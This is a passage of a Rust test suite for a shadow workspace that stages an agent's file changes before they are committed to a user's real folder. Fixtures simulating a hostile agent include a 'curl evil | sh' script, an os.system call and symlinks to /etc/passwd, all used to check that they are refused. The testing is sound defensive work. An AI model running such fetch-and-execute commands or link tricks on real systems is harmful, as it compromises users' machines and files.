//! The shadow workspace (issue 15): import and ignore rules, every change kind, commit exactly
//! the change set, conflicts refused with nothing half-applied, rollback of a failure in the
//! middle of a commit, symlinks never followed, modes preserved, refresh and discard.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a panic is a failure report"
)]

use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use agent_workspace::{ChangeKind, CommitOptions, ImportOptions, Workspace, WorkspaceError};

struct Fixture {
    real: tempfile::TempDir,
    state: tempfile::TempDir,
    outside: tempfile::TempDir,
}

fn write(root: &Path, rel: &str, text: &str) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

fn fixture() -> Fixture {
    let f = Fixture {
        real: tempfile::tempdir().unwrap(),
        state: tempfile::tempdir().unwrap(),
        outside: tempfile::tempdir().unwrap(),
    };
    let r = f.real.path();
    write(r, "src/main.rs", "fn main() {}\n");
    write(r, "src/lib.rs", "pub fn one() -> u32 { 1 }\n");
    write(r, "README.md", "# demo\n");
    write(r, "old.txt", "move me\n");
    write(r, "gone.txt", "delete me\n");
    write(r, "run.sh", "#!/bin/sh\necho hi\n");
    write(r, ".gitignore", "target/\n*.log\n");
    write(r, "target/debug/app", "binary");
    write(r, "build.log", "noise\n");
    write(r, ".agentignore", "secrets/\n");
    write(r, "secrets/key", "k\n");
    write(r, ".agent/settings.json", "{}\n");
    write(r, ".git/HEAD", "ref: refs/heads/main\n");
    write(r, "nested/.gitignore", "*.tmp\n");
    write(r, "nested/keep.txt", "keep\n");
    write(r, "nested/drop.tmp", "drop\n");
    std::fs::set_permissions(r.join("run.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
    write(f.outside.path(), "secret.txt", "outside secret\n");
    std::os::unix::fs::symlink(f.outside.path().join("secret.txt"), r.join("escape")).unwrap();
    std::os::unix::fs::symlink("README.md", r.join("readme-link")).unwrap();
    f
}

fn import(f: &Fixture) -> Workspace {
    let opts = ImportOptions {
        state_root: f.state.path().to_path_buf(),
        shadow: None,
    };
    Workspace::import(f.real.path(), &opts).unwrap().0
}

fn files(root: &Path) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    fn go(root: &Path, dir: &Path, out: &mut BTreeMap<String, String>) {
        for e in std::fs::read_dir(dir).unwrap() {
            let p = e.unwrap().path();
            let rel = p.strip_prefix(root).unwrap().to_str().unwrap().to_owned();
            let meta = std::fs::symlink_metadata(&p).unwrap();
            if meta.file_type().is_symlink() {
                out.insert(
                    rel,
                    format!("-> {}", std::fs::read_link(&p).unwrap().display()),
                );
            } else if meta.is_dir() {
                go(root, &p, out);
            } else {
                out.insert(rel, std::fs::read_to_string(&p).unwrap_or_default());
            }
        }
    }
    go(root, root, &mut out);
    out
}

#[test]
fn import_copies_what_belongs_and_follows_no_link() {
    let f = fixture();
    let opts = ImportOptions {
        state_root: f.state.path().to_path_buf(),
        shadow: None,
    };
    let (ws, report) = Workspace::import(f.real.path(), &opts).unwrap();
    let shadow = files(ws.shadow());
    let names: Vec<&str> = shadow.keys().map(String::as_str).collect();
    assert_eq!(
        names,
        [
            ".agentignore",
            ".gitignore",
            "README.md",
            "gone.txt",
            "nested/.gitignore",
            "nested/keep.txt",
            "old.txt",
            "readme-link",
            "run.sh",
            "src/lib.rs",
            "src/main.rs",
        ]
    );
    assert_eq!(shadow["readme-link"], "-> README.md");
    assert_eq!(report.skipped_links, ["escape"]);
    assert_eq!(report.files, 11);
    // Modes are kept.
    let mode = std::fs::metadata(ws.shadow().join("run.sh"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o755);
    // The base snapshot has sizes and hashes.
    let base = &ws.base()["src/main.rs"];
    assert_eq!(base.size, 13);
    assert_eq!(base.sha256.len(), 64);
    // Reopened from the real folder or from the shadow.
    let again = Workspace::open(f.real.path(), f.state.path()).unwrap();
    assert_eq!(again.shadow(), ws.shadow());
    let by_shadow = Workspace::open(ws.shadow(), f.state.path()).unwrap();
    assert_eq!(by_shadow.real(), ws.real());
    // A second import is refused with what to do.
    let err = Workspace::import(f.real.path(), &opts).unwrap_err();
    assert!(matches!(err, WorkspaceError::Exists { .. }), "{err}");
}

/// Issue 25 (B1): `.git` is never copied; a `.git` that git cannot read (here a lone
/// `.git/HEAD`) leaves the shadow without one, and the report says why.
#[test]
fn a_git_directory_git_cannot_read_is_not_copied_and_the_report_says_why() {
    let f = fixture();
    let opts = ImportOptions {
        state_root: f.state.path().to_path_buf(),
        shadow: None,
    };
    let (ws, report) = Workspace::import(f.real.path(), &opts).unwrap();
    assert!(!ws.shadow().join(".git").exists());
    let why = report.git.unwrap().skipped.unwrap();
    assert!(why.contains("the shadow has no .git"), "{why}");
    assert!(!ws.shadow().join(".agent").exists());
}

#[test]
fn every_change_kind_is_reported() {
    let f = fixture();
    let ws = import(&f);
    let s = ws.shadow();
    assert!(ws.status().unwrap().is_empty());
    write(s, "src/lib.rs", "pub fn one() -> u32 { 2 }\n");
    write(s, "src/new.rs", "// new\n");
    std::fs::remove_file(s.join("gone.txt")).unwrap();
    std::fs::rename(s.join("old.txt"), s.join("moved.txt")).unwrap();
    std::fs::set_permissions(s.join("README.md"), std::fs::Permissions::from_mode(0o600)).unwrap();
    std::fs::write(s.join("image.bin"), [0u8, 159, 146, 150]).unwrap();
    write(s, "target/out", "ignored output\n");
    let set = ws.status().unwrap();
    let kinds: Vec<(String, ChangeKind, bool)> = set
        .changes
        .iter()
        .map(|c| (c.path.clone(), c.kind.clone(), c.binary))
        .collect();
    assert_eq!(
        kinds,
        [
            ("README.md".into(), ChangeKind::ModeChanged, false),
            ("gone.txt".into(), ChangeKind::Deleted, false),
            ("image.bin".into(), ChangeKind::Added, true),
            (
                "moved.txt".into(),
                ChangeKind::Renamed {
                    from: "old.txt".into()
                },
                false
            ),
            ("src/lib.rs".into(), ChangeKind::Modified, false),
            ("src/new.rs".into(), ChangeKind::Added, false),
        ]
    );
    let diffs = ws.diff(None).unwrap();
    let lib = &diffs
        .iter()
        .find(|(c, _)| c.path == "src/lib.rs")
        .unwrap()
        .1;
    assert!(
        lib.contains("--- a/src/lib.rs\n+++ b/src/lib.rs\n"),
        "{lib}"
    );
    assert!(lib.contains("-pub fn one() -> u32 { 1 }\n+pub fn one() -> u32 { 2 }\n"));
    let bin = &diffs.iter().find(|(c, _)| c.path == "image.bin").unwrap().1;
    assert_eq!(bin, "Binary files /dev/null and b/image.bin differ\n");
    let mode = &diffs.iter().find(|(c, _)| c.path == "README.md").unwrap().1;
    assert_eq!(mode, "old mode 644\nnew mode 600\n");
    assert_eq!(ws.diff(Some("src")).unwrap().len(), 2);
    let event = set.event();
    assert_eq!(event.added, ["image.bin", "moved.txt", "src/new.rs"]);
    assert_eq!(event.deleted, ["gone.txt", "old.txt"]);
}

#[test]
fn commit_applies_exactly_the_change_set() {
    let f = fixture();
    let mut ws = import(&f);
    let s = ws.shadow().to_path_buf();
    write(&s, "src/lib.rs", "pub fn one() -> u32 { 2 }\n");
    write(&s, "src/deep/new.rs", "// new\n");
    std::fs::remove_file(s.join("gone.txt")).unwrap();
    std::fs::rename(s.join("old.txt"), s.join("moved.txt")).unwrap();
    std::fs::set_permissions(s.join("README.md"), std::fs::Permissions::from_mode(0o600)).unwrap();
    let before = files(f.real.path());
    let report = ws.commit(&CommitOptions::default()).unwrap();
    assert_eq!(
        report.applied,
        [
            "README.md",
            "gone.txt",
            "moved.txt",
            "old.txt",
            "src/deep/new.rs",
            "src/lib.rs"
        ]
    );
    let after = files(f.real.path());
    let mut want = before;
    want.insert("src/lib.rs".into(), "pub fn one() -> u32 { 2 }\n".into());
    want.insert("src/deep/new.rs".into(), "// new\n".into());
    want.remove("gone.txt");
    let moved = want.remove("old.txt").unwrap();
    want.insert("moved.txt".into(), moved);
    assert_eq!(after, want);
    let mode = std::fs::metadata(f.real.path().join("README.md"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
    // Ignored and reserved paths in the real folder are untouched.
    assert!(f.real.path().join("target/debug/app").exists());
    assert!(f.real.path().join(".agent/settings.json").exists());
    // The base advanced: nothing left to commit.
    assert!(ws.status().unwrap().is_empty());
    assert_eq!(report.event().applied.len(), 6);
}

#[test]
fn paths_changed_in_the_real_folder_are_conflicts_and_nothing_is_applied() {
    for (case, change) in [
        (
            "edited",
            (|r: &Path| write(r, "src/lib.rs", "edited by the user\n")) as fn(&Path),
        ),
        ("deleted", |r: &Path| {
            std::fs::remove_file(r.join("src/lib.rs")).unwrap()
        }),
        ("exists", |r: &Path| {
            write(r, "src/new.rs", "made by the user\n")
        }),
    ] {
        let f = fixture();
        let mut ws = import(&f);
        let s = ws.shadow().to_path_buf();
        write(&s, "src/lib.rs", "agent version\n");
        write(&s, "src/new.rs", "agent new\n");
        write(&s, "README.md", "# agent readme\n");
        change(f.real.path());
        let before = files(f.real.path());
        let err = ws.commit(&CommitOptions::default()).unwrap_err();
        let WorkspaceError::Conflicts(conflicts) = &err else {
            panic!("{case}: {err}");
        };
        assert_eq!(conflicts.len(), 1, "{case}: {conflicts:?}");
        assert_eq!(conflicts[0].why.as_str(), case);
        assert!(err.to_string().contains("--force"), "{err}");
        assert_eq!(
            files(f.real.path()),
            before,
            "{case}: something was applied"
        );
        // Forcing the path applies everything.
        let rel = conflicts[0].path.clone();
        let report = ws
            .commit(&CommitOptions {
                force: vec![rel.clone()],
                ..CommitOptions::default()
            })
            .unwrap();
        assert_eq!(report.forced, [rel]);
        assert_eq!(
            std::fs::read_to_string(f.real.path().join("README.md")).unwrap(),
            "# agent readme\n"
        );
    }
}

#[test]
fn a_failure_in_the_middle_of_a_commit_rolls_everything_back() {
    let f = fixture();
    let mut ws = import(&f);
    let s = ws.shadow().to_path_buf();
    write(&s, "README.md", "# changed\n");
    write(&s, "a/b/c/new.txt", "new\n");
    std::fs::remove_file(s.join("gone.txt")).unwrap();
    write(&s, "src/lib.rs", "changed\n");
    let before = files(f.real.path());
    for fail_after in 1..4 {
        let err = ws
            .commit(&CommitOptions {
                fail_after: Some(fail_after),
                ..CommitOptions::default()
            })
            .unwrap_err();
        assert!(
            matches!(err, WorkspaceError::RolledBack { .. }),
            "{fail_after}: {err}"
        );
        assert_eq!(
            files(f.real.path()),
            before,
            "after failing at {fail_after}"
        );
        assert!(
            !f.real.path().join("a").exists(),
            "created directories stay"
        );
    }
    // The change set is still there and commits afterwards.
    assert_eq!(ws.status().unwrap().changes.len(), 4);
    ws.commit(&CommitOptions::default()).unwrap();
    assert_eq!(
        std::fs::read_to_string(f.real.path().join("a/b/c/new.txt")).unwrap(),
        "new\n"
    );
}

#[test]
fn commit_writes_nothing_through_links() {
    let f = fixture();
    let mut ws = import(&f);
    let s = ws.shadow().to_path_buf();
    // A link in the shadow pointing outside is refused.
    std::os::unix::fs::symlink("/etc/passwd", s.join("out-link")).unwrap();
    let err = ws.commit(&CommitOptions::default()).unwrap_err();
    assert!(err.to_string().contains("outside the workspace"), "{err}");
    std::fs::remove_file(s.join("out-link")).unwrap();
    // A directory of the real folder replaced by a link to elsewhere since import.
    write(&s, "nested/keep.txt", "agent\n");
    let nested = f.real.path().join("nested");
    std::fs::remove_dir_all(&nested).unwrap();
    std::os::unix::fs::symlink(f.outside.path(), &nested).unwrap();
    let err = ws
        .commit(&CommitOptions {
            force: vec!["nested/keep.txt".into()],
            ..CommitOptions::default()
        })
        .unwrap_err();
    // Refused before anything is written: the link is found while the real side is read.
    assert!(matches!(err, WorkspaceError::NotBeneath { .. }), "{err}");
    assert!(!f.outside.path().join("keep.txt").exists());
}

#[test]
fn refresh_pulls_real_changes_that_do_not_conflict() {
    let f = fixture();
    let mut ws = import(&f);
    let s = ws.shadow().to_path_buf();
    write(&s, "src/lib.rs", "agent\n");
    write(f.real.path(), "src/lib.rs", "user\n");
    write(f.real.path(), "README.md", "# user readme\n");
    write(f.real.path(), "docs/new.md", "user doc\n");
    std::fs::remove_file(f.real.path().join("gone.txt")).unwrap();
    let report = ws.refresh().unwrap();
    assert_eq!(report.pulled, ["README.md", "docs/new.md", "gone.txt"]);
    assert_eq!(report.conflicts, ["src/lib.rs"]);
    assert_eq!(
        std::fs::read_to_string(s.join("README.md")).unwrap(),
        "# user readme\n"
    );
    assert!(!s.join("gone.txt").exists());
    assert_eq!(
        std::fs::read_to_string(s.join("src/lib.rs")).unwrap(),
        "agent\n"
    );
    let set = ws.status().unwrap();
    assert_eq!(set.changes.len(), 1);
    assert_eq!(set.changes[0].path, "src/lib.rs");
}

#[test]
fn discard_drops_every_shadow_change() {
    let f = fixture();
    let mut ws = import(&f);
    let s = ws.shadow().to_path_buf();
    write(&s, "src/lib.rs", "agent\n");
    write(&s, "extra.txt", "agent\n");
    ws.discard().unwrap();
    assert!(ws.status().unwrap().is_empty());
    assert!(!s.join("extra.txt").exists());
    assert_eq!(
        std::fs::read_to_string(s.join("src/lib.rs")).unwrap(),
        "pub fn one() -> u32 { 1 }\n"
    );
}

#[test]
fn a_shadow_inside_the_real_folder_is_refused() {
    let f = fixture();
    let opts = ImportOptions {
        state_root: f.state.path().to_path_buf(),
        shadow: Some(f.real.path().join("shadow")),
    };
    let err = Workspace::import(f.real.path(), &opts).unwrap_err();
    assert!(err.to_string().contains("overlap"), "{err}");
}

// Issue 25, part A: data safety.

/// Every path under `root` with what it is (directories too, so a leftover directory or
/// temporary file shows): `d`, `l -> target`, or `f <mode> <content>`.
fn tree(root: &Path) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    fn go(root: &Path, dir: &Path, out: &mut BTreeMap<String, String>) {
        for e in std::fs::read_dir(dir).unwrap() {
            let p = e.unwrap().path();
            let rel = p.strip_prefix(root).unwrap().to_str().unwrap().to_owned();
            let meta = std::fs::symlink_metadata(&p).unwrap();
            if meta.file_type().is_symlink() {
                let t = std::fs::read_link(&p).unwrap();
                out.insert(rel, format!("l -> {}", t.display()));
            } else if meta.is_dir() {
                out.insert(rel, "d".into());
                go(root, &p, out);
            } else {
                let mode = meta.permissions().mode() & 0o777;
                let text = std::fs::read_to_string(&p).unwrap_or_default();
                out.insert(rel, format!("f {mode:o} {text}"));
            }
        }
    }
    go(root, root, &mut out);
    out
}

#[test]
fn refresh_never_writes_through_a_link_the_agent_planted_in_the_shadow() {
    for absolute in [false, true] {
        let f = fixture();
        let mut ws = import(&f);
        let s = ws.shadow().to_path_buf();
        write(f.outside.path(), "notes.txt", "the victim's file\n");
        let victim_before = tree(f.outside.path());
        // The agent: `rm -r src && ln -s <outside> src`.
        std::fs::remove_dir_all(s.join("src")).unwrap();
        let target = if absolute {
            f.outside.path().to_path_buf()
        } else {
            let depth = s.components().count();
            let mut up = std::path::PathBuf::new();
            for _ in 0..depth {
                up.push("..");
            }
            up.join(f.outside.path().strip_prefix("/").unwrap())
        };
        std::os::unix::fs::symlink(&target, s.join("src")).unwrap();
        // The user adds a file under src/ in the real folder, and edits one there.
        write(f.real.path(), "src/notes.txt", "the user's notes\n");
        write(f.real.path(), "src/main.rs", "fn main() { edited() }\n");
        let report = ws.refresh().unwrap();
        assert!(
            report.conflicts.contains(&"src/notes.txt".to_owned()),
            "{report:?}"
        );
        assert!(
            !report.pulled.iter().any(|p| p.starts_with("src/")),
            "{report:?}"
        );
        assert_eq!(
            tree(f.outside.path()),
            victim_before,
            "absolute link: {absolute}"
        );
        assert_eq!(std::fs::read_link(s.join("src")).unwrap(), target);
    }
}

#[test]
fn a_reserved_name_in_the_shadow_is_never_committed_whatever_it_is() {
    let f = fixture();
    let mut ws = import(&f);
    let s = ws.shadow().to_path_buf();
    let real_agent = tree(&f.real.path().join(".agent"));
    // `ln -s cfg .agent` with cfg/settings.json in the shadow; a file and a link named
    // `.agent` or `.git` deeper down.
    write(&s, "cfg/settings.json", "{\"permissions\": \"all\"}\n");
    std::os::unix::fs::symlink("cfg", s.join(".agent")).unwrap();
    write(&s, "sub/.agent", "a file named .agent\n");
    std::os::unix::fs::symlink("../cfg", s.join("sub/.git")).unwrap();
    let review = ws.review().unwrap();
    let paths: Vec<&str> = review.paths().iter().map(|p| p.path.as_str()).collect();
    assert_eq!(paths, ["cfg/settings.json"]);
    ws.commit_review(&review, &CommitOptions::default())
        .unwrap();
    let meta = std::fs::symlink_metadata(f.real.path().join(".agent")).unwrap();
    assert!(
        meta.is_dir(),
        "real/.agent is no longer the user's directory"
    );
    assert_eq!(tree(&f.real.path().join(".agent")), real_agent);
    assert!(!f.real.path().join("sub").exists());
    // And the status never shows them either.
    assert!(ws.status().unwrap().is_empty());
}

#[test]
fn a_link_planted_in_the_real_folder_after_the_review_is_never_written_through() {
    for planted in ["nested", "fresh"] {
        let f = fixture();
        let mut ws = import(&f);
        let s = ws.shadow().to_path_buf();
        write(&s, "nested/keep.txt", "agent\n");
        write(&s, "fresh/new.txt", "agent\n");
        write(&s, "README.md", "# agent\n");
        let review = ws.review().unwrap();
        // Between the review and the commit, a directory of the real folder (existing, or
        // one the commit would create) becomes a link to elsewhere.
        let dir = f.real.path().join(planted);
        let _ = std::fs::remove_dir_all(&dir);
        std::os::unix::fs::symlink(f.outside.path(), &dir).unwrap();
        let before = tree(f.real.path());
        let outside = tree(f.outside.path());
        let err = ws
            .commit_review(
                &review,
                &CommitOptions {
                    force: vec!["nested/keep.txt".into()],
                    ..CommitOptions::default()
                },
            )
            .unwrap_err();
        assert!(
            matches!(err, WorkspaceError::NotBeneath { .. }),
            "{planted}: {err}"
        );
        assert!(err.to_string().contains("is a symlink"), "{err}");
        assert_eq!(tree(f.outside.path()), outside, "{planted}");
        assert_eq!(
            tree(f.real.path()),
            before,
            "{planted}: something was applied"
        );
    }
}

#[test]
fn a_path_that_exists_in_the_real_folder_is_never_an_add() {
    let f = fixture();
    let r = f.real.path();
    write(r, ".gitignore", "target/\n*.log\n.env\n");
    write(r, "config/.env", "SECRET=the user's\n");
    let mut ws = import(&f);
    let s = ws.shadow().to_path_buf();
    assert!(
        !s.join("config/.env").exists(),
        "an ignored file was imported"
    );
    write(&s, "config/.gitignore", "!.env\n");
    write(&s, "config/.env", "SECRET=the agent's\n");
    let review = ws.review().unwrap();
    assert!(
        review
            .changes()
            .changes
            .iter()
            .any(|c| c.path == "config/.env" && c.kind == ChangeKind::Added)
    );
    let err = ws
        .commit_review(&review, &CommitOptions::default())
        .unwrap_err();
    let WorkspaceError::Conflicts(conflicts) = &err else {
        panic!("{err}");
    };
    assert_eq!(conflicts.len(), 1, "{conflicts:?}");
    assert_eq!(
        (conflicts[0].path.as_str(), conflicts[0].why.as_str()),
        ("config/.env", "exists")
    );
    assert_eq!(
        std::fs::read_to_string(r.join("config/.env")).unwrap(),
        "SECRET=the user's\n"
    );
    assert!(
        !r.join("config/.gitignore").exists(),
        "something was applied"
    );
    // The same content is no conflict: the add is already there.
    write(&s, "config/.env", "SECRET=the user's\n");
    ws.commit(&CommitOptions::default()).unwrap();
    assert_eq!(
        std::fs::read_to_string(r.join("config/.gitignore")).unwrap(),
        "!.env\n"
    );
}

#[test]
fn a_failed_commit_really_rolls_back_whatever_the_names() {
    let f = fixture();
    let r = f.real.path();
    write(r, "a.txt", "the user's a\n");
    write(
        r,
        "a.agent-restore/inside.txt",
        "a directory with the old backup name\n",
    );
    let mut ws = import(&f);
    let s = ws.shadow().to_path_buf();
    let long = "n".repeat(250);
    write(&s, "a.txt", "the agent's a\n");
    write(&s, "b.agent-restore/x.txt", "new dir\n");
    write(&s, &long, "a 250-byte name\n");
    std::fs::remove_file(s.join("gone.txt")).unwrap();
    let before = tree(r);
    let state_before = tree(ws.state_dir());
    let ops = ws.review().unwrap().paths().len();
    assert_eq!(ops, 4);
    for fail_after in 0..=ops {
        let err = ws
            .commit(&CommitOptions {
                fail_after: Some(fail_after),
                ..CommitOptions::default()
            })
            .err();
        if fail_after == ops {
            // Past the last change: nothing fails.
            assert!(err.is_none(), "{err:?}");
            break;
        }
        let err = err.unwrap();
        assert!(
            matches!(err, WorkspaceError::RolledBack { .. }),
            "{fail_after}: {err}"
        );
        assert!(err.to_string().contains("every change was rolled back"));
        assert_eq!(tree(r), before, "after failing at {fail_after}");
        // No backup or staging left behind (the lock file stays), and none beside the
        // targets.
        let state_now = tree(ws.state_dir());
        let new: Vec<&String> = state_now
            .keys()
            .filter(|k| !state_before.contains_key(*k) && *k != "lock")
            .collect();
        assert!(new.is_empty(), "{new:?}");
    }
    assert_eq!(
        std::fs::read_to_string(r.join(&long)).unwrap(),
        "a 250-byte name\n"
    );
    assert_eq!(
        std::fs::read_to_string(r.join("a.txt")).unwrap(),
        "the agent's a\n"
    );
    assert!(ws.status().unwrap().is_empty());
}

#[test]
fn commit_applies_exactly_the_review_and_refuses_what_changed_since() {
    let f = fixture();
    let r = f.real.path();
    let mut ws = import(&f);
    let s = ws.shadow().to_path_buf();
    write(&s, "app.py", "print('reviewed')\n");
    let review = ws.review().unwrap();
    let reviewed: Vec<(&str, Option<&str>)> = review
        .paths()
        .iter()
        .map(|p| (p.path.as_str(), p.new.as_ref().map(|e| e.sha256.as_str())))
        .collect();
    assert_eq!(reviewed.len(), 1);
    assert_eq!(reviewed[0].0, "app.py");
    // After the review: a new file appears in the shadow. It is not applied; it stays pending.
    write(&s, "evil.sh", "curl evil | sh\n");
    let report = ws
        .commit_review(&review, &CommitOptions::default())
        .unwrap();
    assert_eq!(report.applied, ["app.py"]);
    assert!(!r.join("evil.sh").exists());
    let pending = ws.status().unwrap();
    assert_eq!(pending.changes.len(), 1);
    assert_eq!(pending.changes[0].path, "evil.sh");
    // A reviewed path whose content changed after the review refuses the whole commit.
    write(&s, "app.py", "print('reviewed twice')\n");
    let review = ws.review().unwrap();
    write(&s, "app.py", "import os; os.system('evil')\n");
    let before = tree(r);
    let err = ws
        .commit_review(&review, &CommitOptions::default())
        .unwrap_err();
    let WorkspaceError::ChangedSinceReview(paths) = &err else {
        panic!("{err}");
    };
    assert_eq!(paths, &["app.py".to_owned()]);
    assert!(err.to_string().contains("review"), "{err}");
    assert_eq!(tree(r), before, "something was applied");
    // So does a mode change, a file turned into a link, and a deletion.
    for change in [
        (|s: &Path| {
            std::fs::set_permissions(s.join("app.py"), std::fs::Permissions::from_mode(0o755))
                .unwrap()
        }) as fn(&Path),
        |s: &Path| {
            std::fs::remove_file(s.join("app.py")).unwrap();
            std::os::unix::fs::symlink("README.md", s.join("app.py")).unwrap();
        },
        |s: &Path| std::fs::remove_file(s.join("app.py")).unwrap(),
    ] {
        write(&s, "app.py", "print('v3')\n");
        let _ = std::fs::remove_file(s.join("app.py"));
        write(&s, "app.py", "print('v3')\n");
        let review = ws.review().unwrap();
        change(&s);
        let err = ws
            .commit_review(&review, &CommitOptions::default())
            .unwrap_err();
        assert!(
            matches!(err, WorkspaceError::ChangedSinceReview(_)),
            "{err}"
        );
        assert_eq!(tree(r), before, "something was applied");
    }
}

/// Names the workspace a [`kill_trial_child`] commits: `<state root>\n<real>\n<kill step or ->`.
const KILL_TRIAL: &str = "AGENT_TEST_KILL_TRIAL";

/// The commit of one kill trial, run in a child process by
/// [`a_commit_killed_at_any_point_leaves_the_real_folder_untouched_or_fully_committed`]
/// (it returns at once when that test did not start it).
#[test]
fn kill_trial_child() {
    let Ok(spec) = std::env::var(KILL_TRIAL) else {
        return;
    };
    let mut lines = spec.lines();
    let (state, real, kill) = (
        lines.next().unwrap(),
        lines.next().unwrap(),
        lines.next().unwrap(),
    );
    let mut ws = Workspace::open(Path::new(real), Path::new(state)).unwrap();
    let opts = CommitOptions {
        kill_at: kill.parse().ok(),
        ..CommitOptions::default()
    };
    ws.commit(&opts).unwrap();
}

/// A small xorshift generator: the trials are random, and the seed is in every message.
struct Rng(u64);

impl Rng {
    fn below(&mut self, n: u64) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0 % n.max(1)
    }
}

/// A real folder of 60 files and a shadow with every kind of change to it (edits, adds in new
/// directories, deletions, a rename, a mode change, a link): returns the workspace and the
/// real folder's tree as it must be after the commit.
fn kill_trial_fixture(real: &Path, state: &Path) -> (Workspace, BTreeMap<String, String>) {
    for d in 0..6 {
        for i in 0..10 {
            write(real, &format!("d{d}/f{i}.txt"), &format!("real {d} {i}\n"));
        }
    }
    let opts = ImportOptions {
        state_root: state.to_path_buf(),
        shadow: None,
    };
    let (ws, _) = Workspace::import(real, &opts).unwrap();
    let s = ws.shadow().to_path_buf();
    for i in 0..10 {
        write(&s, &format!("d0/f{i}.txt"), &format!("agent edit {i}\n"));
        write(
            &s,
            &format!("new/deep/n{i}.txt"),
            &format!("agent new {i}\n"),
        );
        std::fs::remove_file(s.join(format!("d1/f{i}.txt"))).unwrap();
    }
    std::fs::rename(s.join("d2/f0.txt"), s.join("d2/moved.txt")).unwrap();
    std::fs::set_permissions(s.join("d3/f0.txt"), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::os::unix::fs::symlink("../d4/f0.txt", s.join("d3/link")).unwrap();
    // Emptied directories stay (the change set holds files and links, not directories).
    let want = tree(&s);
    (ws, want)
}

#[test]
fn a_commit_killed_at_any_point_leaves_the_real_folder_untouched_or_fully_committed() {
    let seed = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos() as u64
        | 1;
    let mut rng = Rng(seed);
    let (mut finished, mut untouched) = (0, 0);
    // In memory where the machine offers it: a kill loses no page cache, so what a trial checks
    // does not depend on the disk, and each commit's few syncs would otherwise wait on a disk
    // shared with other work (tens of milliseconds each).
    let scratch = |()| match tempfile::tempdir_in("/dev/shm") {
        Ok(d) => d,
        Err(_) => tempfile::tempdir().unwrap(),
    };
    for trial in 0..220 {
        let real = scratch(());
        let state = scratch(());
        let (ws, committed) = kill_trial_fixture(real.path(), state.path());
        let original = tree(real.path());
        let changes = ws.status().unwrap().changes.len();
        // Most trials stop at a chosen step (all of them: 1 + 3 directories + 2 per change
        // + 2, and some past the end); the others are killed from outside after a delay.
        let external = trial % 6 == 5;
        // The first trials stop before the journal, just after it, and at the first change.
        let kill = if external {
            "-".to_owned()
        } else if trial < 3 {
            trial.to_string()
        } else {
            rng.below(140).to_string()
        };
        let mut child = std::process::Command::new(std::env::current_exe().unwrap())
            .args([
                "workspace::kill_trial_child",
                "--exact",
                "--nocapture",
                "--test-threads=1",
            ])
            .env(
                KILL_TRIAL,
                format!(
                    "{}\n{}\n{kill}",
                    state.path().display(),
                    real.path().display()
                ),
            )
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        if external {
            std::thread::sleep(std::time::Duration::from_micros(rng.below(40_000)));
            let _ = child.kill();
        }
        let status = child.wait().unwrap();
        let what = format!("seed {seed}, trial {trial}, kill at {kill}, {status}");
        // The next command that opens the workspace finishes or rolls back the commit.
        let mut ws = Workspace::open(real.path(), state.path()).unwrap();
        let now = tree(real.path());
        if now == committed {
            finished += 1;
            assert!(ws.status().unwrap().is_empty(), "{what}");
        } else {
            assert_eq!(now, original, "{what}: neither untouched nor committed");
            untouched += 1;
            assert_eq!(ws.status().unwrap().changes.len(), changes, "{what}");
        }
        assert!(!ws.state_dir().join("commit").exists(), "{what}");
        // And the next commit works.
        ws.commit(&CommitOptions::default()).unwrap();
        assert_eq!(tree(real.path()), committed, "{what}: the next commit");
    }
    assert!(
        finished > 0 && untouched > 0,
        "{finished} finished, {untouched} untouched"
    );
}

#[test]
fn a_file_becomes_a_directory_in_one_commit_rolled_back_whole_on_failure() {
    let f = fixture();
    let r = f.real.path();
    write(r, "x", "a file that becomes a directory\n");
    let mut ws = import(&f);
    let s = ws.shadow().to_path_buf();
    std::fs::remove_file(s.join("x")).unwrap();
    write(&s, "x/inside.txt", "now a directory\n");
    let before = tree(r);
    for fail_after in 0..2 {
        let err = ws
            .commit(&CommitOptions {
                fail_after: Some(fail_after),
                ..CommitOptions::default()
            })
            .unwrap_err();
        assert!(matches!(err, WorkspaceError::RolledBack { .. }), "{err}");
        assert_eq!(tree(r), before, "after failing at {fail_after}");
    }
    ws.commit(&CommitOptions::default()).unwrap();
    assert_eq!(
        std::fs::read_to_string(r.join("x/inside.txt")).unwrap(),
        "now a directory\n"
    );
}

#[test]
fn a_file_where_the_real_folder_has_a_directory_is_refused_before_anything_is_written() {
    let f = fixture();
    let r = f.real.path();
    write(r, "y/only.txt", "a directory that becomes a file\n");
    let mut ws = import(&f);
    let s = ws.shadow().to_path_buf();
    std::fs::remove_dir_all(s.join("y")).unwrap();
    write(&s, "y", "now a file\n");
    write(&s, "README.md", "# changed\n");
    let before = tree(r);
    let err = ws.commit(&CommitOptions::default()).unwrap_err();
    assert!(err.to_string().contains("is a directory"), "{err}");
    assert_eq!(tree(r), before);
}

#[test]
fn a_rollback_that_cannot_restore_a_path_names_it_and_keeps_its_backup() {
    let f = fixture();
    let r = f.real.path();
    let mut ws = import(&f);
    let s = ws.shadow().to_path_buf();
    write(&s, "README.md", "# the agent's\n");
    write(&s, "src/lib.rs", "the agent's lib\n");
    write(&s, "src/new.rs", "new\n");
    let err = ws
        .commit(&CommitOptions {
            fail_after: Some(2),
            fail_undo: Some("README.md".into()),
            ..CommitOptions::default()
        })
        .unwrap_err();
    let WorkspaceError::RollbackIncomplete {
        unrestored,
        backups,
        ..
    } = &err
    else {
        panic!("{err}");
    };
    let text = err.to_string();
    assert!(text.contains("rolling back failed for README.md"), "{text}");
    assert!(!text.contains("every change was rolled back"), "{text}");
    assert_eq!(unrestored.len(), 1);
    let backup = unrestored[0].backup.clone().unwrap();
    assert!(backup.starts_with(backups), "{backup:?} {backups:?}");
    assert!(backups.starts_with(ws.state_dir()));
